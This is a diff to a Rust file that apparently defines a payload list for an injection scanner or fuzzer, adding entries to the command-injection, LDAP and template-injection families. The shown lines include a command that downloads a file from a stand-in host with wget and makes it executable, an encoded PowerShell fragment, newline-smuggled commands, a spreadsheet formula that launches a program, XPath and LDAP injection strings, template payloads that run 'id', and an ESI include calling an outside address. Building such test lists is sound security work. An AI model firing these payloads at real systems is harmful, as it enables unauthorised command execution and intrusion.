@@ -74,6 +74,8 @@ pub const FAMILIES: &[Family] = &[
             "a; wget http://203.0.113.7/b -O /tmp/b; chmod +x /tmp/b",
             "& powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
             "127.0.0.1 | type C:\\windows\\win.ini",
+            "127.0.0.1\nenv;",
+            "=cmd|' /C calc'!A0",
         ],
     },
     Family {
@@ -146,6 +148,7 @@ pub const FAMILIES: &[Family] = &[
             "admin*)((|userPassword=*)",
             "*))\0",
             "jdoe)(|(memberOf=cn=admins,dc=example,dc=test)",
+            "x']|//*|//*['",
         ],
     },
     Family {
@@ -192,6 +195,7 @@ pub const FAMILIES: &[Family] = &[
             "${T(java.lang.Runtime).getRuntime().exec('id')}",
             "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
             "[[${7*7}]]",
+            "<esi:include src=\"http://203.0.113.9/x\"/>",
         ],
     },
     Family {
